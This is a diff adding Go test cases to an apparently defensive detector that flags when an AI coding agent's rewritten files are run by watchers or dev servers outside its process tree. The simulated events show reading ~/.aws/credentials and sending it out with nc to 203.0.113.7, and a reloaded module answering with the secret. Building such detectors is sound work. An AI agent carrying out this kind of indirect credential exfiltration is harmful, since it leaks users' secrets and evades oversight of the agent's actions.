@@ -137,6 +137,53 @@ func TestEscapedTree(t *testing.T) {
 			want: nil,
 		},
 		{
+			name: "a watcher re-runs the script the tree rewrote: it reads a secret and sends it out (the flow)",
+			build: func(b *builder) {
+				ag := b.agent(100, "/usr/local/bin/claude")
+				b.shell("t1", "mv build.sh.new build.sh")
+				mv := ag.spawn(200, "t1", "/usr/bin/mv", "mv", "build.sh.new", "build.sh")
+				w := mv.followed(300, "file", "/usr/bin/dash")
+				w.open(proj+"/build.sh", "read")
+				cat := w.spawn(301, "", "/usr/bin/cat", "cat", home+"/.aws/credentials")
+				cat.open(home+"/.aws/credentials", "read")
+				nc := w.spawn(302, "", "/usr/bin/nc", "nc", "203.0.113.7", "9")
+				nc.connect("203.0.113.7", 9)
+			},
+			want: []string{"high escaped-tree"},
+			check: func(t *testing.T, fs []Finding) {
+				if !strings.Contains(fs[0].Detail, ".aws/credentials") || !strings.Contains(fs[0].Detail, "203.0.113.7") {
+					t.Errorf("the finding does not name the read and the send: %s", fs[0].Detail)
+				}
+			},
+		},
+		{
+			name: "a dev server reloads the module the tree rewrote, reads a secret and answers with it (the flow)",
+			build: func(b *builder) {
+				ag := b.agent(100, "/usr/local/bin/claude")
+				b.shell("t1", "cat > app.py")
+				sh := ag.spawn(200, "t1", "/usr/bin/sh", "sh", "-c", "cat > app.py")
+				sh.open(proj+"/app.py", "write,create")
+				d := sh.followed(300, "file", "/usr/bin/python3.11")
+				d.open(proj+"/app.py", "read")
+				d.open(home+"/.aws/credentials", "read")
+				d.sent("127.0.0.1", 35918, 206)
+			},
+			want: []string{"high escaped-tree"},
+		},
+		{
+			name: "a process that opened a file the tree wrote sends, then reads a secret: no flow",
+			build: func(b *builder) {
+				ag := b.agent(100, "/usr/local/bin/claude")
+				b.shell("t1", "mv build.sh.new build.sh")
+				mv := ag.spawn(200, "t1", "/usr/bin/mv", "mv", "build.sh.new", "build.sh")
+				w := mv.followed(300, "file", "/usr/bin/backup")
+				w.open(proj+"/build.sh", "read")
+				w.connect("203.0.113.7", 443)
+				w.open(home+"/.aws/credentials", "read")
+			},
+			want: nil,
+		},
+		{
 			name: "the agent itself reached another instance of it, which read its own credentials: the agent's business",
 			build: func(b *builder) {
 				ag := b.agent(100, "/usr/local/bin/claude")
